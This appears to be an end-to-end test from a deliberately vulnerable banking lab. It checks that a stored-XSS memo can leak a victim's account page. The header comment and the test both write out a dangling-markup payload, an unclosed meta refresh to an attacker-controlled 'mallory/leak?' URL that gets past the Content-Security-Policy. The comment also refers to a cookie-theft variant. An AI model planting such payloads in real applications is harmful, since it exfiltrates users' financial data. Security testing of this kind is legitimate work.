// Attack (lab flaw `stored-xss`): Mallory sends the victim $1.00 with a memo of markup. The
// Content-Security-Policy still refuses any script in it (switching that off is the `no-csp`
// flaw), so she uses markup alone: a refresh whose address she leaves open —
// <meta http-equiv="refresh" content='0;url=https://mallory/leak? — swallows the rest of the
// victim's account page (amounts, balance) up to the next quote mark into the URL, and the
// browser takes it to her site. Where no-csp and readable-cookie are on too, a memo steals the
// session cookie itself: e2e/attacks/stored-xss-cookie-theft.spec.ts.
import { startAttackerSite } from "../support/attacker-site";
import { victimOpensMemo } from "../support/memo-attack";
import { expectAttack, test } from "../support/fixtures";

test("a memo's markup sends the victim's account page to Mallory", async ({
  signedInPage: page,
  request,
  user,
  createUser,
  target,
}) => {
  const mallory = await createUser();
  const site = await startAttackerSite(
    "<!doctype html><title>Vaultline</title><h1>Session expired: sign in again</h1>",
  );
  try {
    const memo = `<meta http-equiv="refresh" content='0;url=${site.url("127.0.0.1")}leak?`;
    await victimOpensMemo(page, request, { mallory, victim: user }, memo, "Session expired: sign in again");
    const leaked = site.requests.filter((r) => r.startsWith("/leak?")).map((r) => decodeURIComponent(r));
    // The victim's balance after the $1.00, as the page showed it just after the memo.
    expectAttack(
      target,
      leaked.some((url) => url.includes("$2,501.00")),
    );
  } finally {
    await site.close();
  }
});
